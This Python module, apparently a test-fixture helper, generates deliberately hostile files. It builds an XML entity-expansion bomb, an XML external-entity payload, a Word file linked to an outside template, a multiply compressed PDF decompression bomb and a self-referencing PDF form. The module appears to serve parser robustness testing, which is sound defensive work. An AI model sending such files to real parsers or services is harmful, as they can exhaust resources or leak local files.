"""Files made to do harm, each by its own trick: small to send, large or endless to read."""

from __future__ import annotations

import io
import zipfile
import zlib

WORDS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPES = (
    f'<Types xmlns="{_PACKAGE}/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/word/document.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_PAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources "
    b"<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> /XObject << /X 5 0 R >> >> >>"
)
SHOWN = b"BT /F1 12 Tf 100 700 Td (A truce) Tj ET\n"


def laughs(root: str, element: str) -> str:
    """XML whose one element unpacks to a hundred million letters: each entity is ten of the one before."""
    entities = "".join(f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(7))
    doctype = f'<!DOCTYPE {root} [<!ENTITY a "{"A" * 10}">{entities}]>'
    return f'<?xml version="1.0"?>{doctype}{element.format("&h;")}'


def foreign(root: str, element: str, place: str) -> str:
    """XML that asks for another file to be put in."""
    return f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY a SYSTEM "{place}">]>{element.format("&a;")}'


def docx(document: str, linked: str = "") -> bytes:
    """A Word file; `linked` is an address outside that it says a part of it is kept at."""
    outside = f'<Relationship Id="r2" Type="{_RELATIONS}/attachedTemplate" Target="{linked}" TargetMode="External"/>'
    main = f'<Relationship Id="r1" Type="{_RELATIONS}/officeDocument" Target="word/document.xml"/>'
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _TYPES)
        archive.writestr(
            "_rels/.rels", f'<Relationships xmlns="{_PACKAGE}/relationships">{main}</Relationships>'
        )
        archive.writestr("word/document.xml", document)
        if linked:
            archive.writestr(
                "word/_rels/document.xml.rels",
                f'<Relationships xmlns="{_PACKAGE}/relationships">{outside}</Relationships>',
            )
    return made.getvalue()


def packed(content: bytes, times: int = 1) -> bytes:
    """A stream of a PDF, packed so many times over."""
    for _ in range(times):
        content = zlib.compress(content, 9)
    return _stream(content, b"/Filter [" + b"/FlateDecode " * times + b"]")


def pdf(**objects: bytes) -> bytes:
    """A PDF of one page that shows two words, with some of its objects (`o2`: the pages, `o4`: what is shown) changed."""
    made = {
        "o1": b"<< /Type /Catalog /Pages 2 0 R >>",
        "o2": b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "o3": _PAGE,
        "o4": _stream(SHOWN),
        "o5": _stream(b"", b"/Type /XObject /Subtype /Form"),
    } | objects
    out, places = io.BytesIO(), []
    out.write(b"%PDF-1.7\n")
    for name, content in made.items():
        places.append(out.tell())
        out.write(b"%d 0 obj\n" % int(name[1:]) + content + b"\nendobj\n")
    table = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1))
    out.writelines(b"%010d 00000 n \n" % place for place in places)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (len(places) + 1, table))
    return out.getvalue()


def form(content: bytes) -> bytes:
    """A form of a PDF, which may show itself."""
    return _stream(content, b"/Type /XObject /Subtype /Form /Resources << /XObject << /X 5 0 R >> >>")


def _stream(content: bytes, more: bytes = b"") -> bytes:
    return b"<< /Length %d " % len(content) + more + b" >>\nstream\n" + content + b"\nendstream"
